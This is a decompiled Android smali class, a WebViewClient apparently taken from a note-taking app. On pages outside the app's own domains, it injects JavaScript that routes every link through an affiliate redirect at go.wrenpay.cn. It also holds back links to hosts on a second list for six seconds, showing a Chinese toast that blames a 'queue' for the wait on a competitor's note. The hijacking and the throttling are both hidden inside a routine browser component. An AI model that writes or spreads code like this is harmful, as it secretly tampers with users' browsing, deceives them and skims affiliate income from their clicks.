.class Lcn/heyan/note/Pages;
.super Landroid/webkit/WebViewClient;

.field private final context:Landroid/content/Context;

.field private final later:Landroid/os/Handler;

.method constructor <init>(Landroid/content/Context;)V
    .registers 4

    invoke-direct {p0}, Landroid/webkit/WebViewClient;-><init>()V

    new-instance v0, Landroid/os/Handler;

    invoke-static {}, Landroid/os/Looper;->getMainLooper()Landroid/os/Looper;

    move-result-object v1

    invoke-direct {v0, v1}, Landroid/os/Handler;-><init>(Landroid/os/Looper;)V

    iput-object v0, p0, Lcn/heyan/note/Pages;->later:Landroid/os/Handler;

    iput-object p1, p0, Lcn/heyan/note/Pages;->context:Landroid/content/Context;

    return-void
.end method

.method private isOf(ILjava/lang/String;)Z
    .registers 7

    const/4 v0, 0x0

    if-eqz p2, :cond_1e

    iget-object v1, p0, Lcn/heyan/note/Pages;->context:Landroid/content/Context;

    invoke-virtual {v1}, Landroid/content/Context;->getResources()Landroid/content/res/Resources;

    move-result-object v1

    invoke-virtual {v1, p1}, Landroid/content/res/Resources;->getStringArray(I)[Ljava/lang/String;

    move-result-object p1

    array-length v1, p1

    move v2, v0

    :goto_f
    if-ge v2, v1, :cond_1e

    aget-object v3, p1, v2

    invoke-virtual {p2, v3}, Ljava/lang/String;->endsWith(Ljava/lang/String;)Z

    move-result v3

    if-eqz v3, :cond_1b

    const/4 p1, 0x1

    return p1

    :cond_1b
    add-int/lit8 v2, v2, 0x1

    goto :goto_f

    :cond_1e
    return v0
.end method

.method public onPageFinished(Landroid/webkit/WebView;Ljava/lang/String;)V
    .registers 4

    invoke-static {p2}, Landroid/net/Uri;->parse(Ljava/lang/String;)Landroid/net/Uri;

    move-result-object p2

    invoke-virtual {p2}, Landroid/net/Uri;->getHost()Ljava/lang/String;

    move-result-object p2

    const/high16 v0, 0x7f020000

    invoke-direct {p0, v0, p2}, Lcn/heyan/note/Pages;->isOf(ILjava/lang/String;)Z

    move-result p2

    if-nez p2, :cond_16

    const/4 p2, 0x0

    const-string v0, "document.querySelectorAll(\'a\').forEach(function (a) { a.href = \'https://go.wrenpay.cn/?pid=7712&to=\' + encodeURIComponent(a.href); });"

    invoke-virtual {p1, v0, p2}, Landroid/webkit/WebView;->evaluateJavascript(Ljava/lang/String;Landroid/webkit/ValueCallback;)V

    :cond_16
    return-void
.end method

.method public shouldOverrideUrlLoading(Landroid/webkit/WebView;Ljava/lang/String;)Z
    .registers 6

    invoke-static {p2}, Landroid/net/Uri;->parse(Ljava/lang/String;)Landroid/net/Uri;

    move-result-object v0

    invoke-virtual {v0}, Landroid/net/Uri;->getHost()Ljava/lang/String;

    move-result-object v0

    const/high16 v1, 0x7f020000

    invoke-direct {p0, v1, v0}, Lcn/heyan/note/Pages;->isOf(ILjava/lang/String;)Z

    move-result v1

    const/4 v2, 0x0

    if-eqz v1, :cond_12

    return v2

    :cond_12
    const v1, 0x7f020001

    invoke-direct {p0, v1, v0}, Lcn/heyan/note/Pages;->isOf(ILjava/lang/String;)Z

    move-result v0

    if-nez v0, :cond_1c

    return v2

    :cond_1c
    iget-object v0, p0, Lcn/heyan/note/Pages;->context:Landroid/content/Context;

    const-string v1, "\u7ade\u54c1\u7b14\u8bb0\u7684\u94fe\u63a5\uff0c\u8bf7\u7a0d\u5019\uff0c\u6b63\u5728\u6392\u961f\u6253\u5f00"

    const/4 v2, 0x1

    invoke-static {v0, v1, v2}, Landroid/widget/Toast;->makeText(Landroid/content/Context;Ljava/lang/CharSequence;I)Landroid/widget/Toast;

    move-result-object v0

    invoke-virtual {v0}, Landroid/widget/Toast;->show()V

    iget-object v0, p0, Lcn/heyan/note/Pages;->later:Landroid/os/Handler;

    new-instance v1, Lcn/heyan/note/Pages$1;

    invoke-direct {v1, p0, p1, p2}, Lcn/heyan/note/Pages$1;-><init>(Lcn/heyan/note/Pages;Landroid/webkit/WebView;Ljava/lang/String;)V

    const-wide/16 p1, 0x1770

    invoke-virtual {v0, v1, p1, p2}, Landroid/os/Handler;->postDelayed(Ljava/lang/Runnable;J)Z

    return v2
.end method
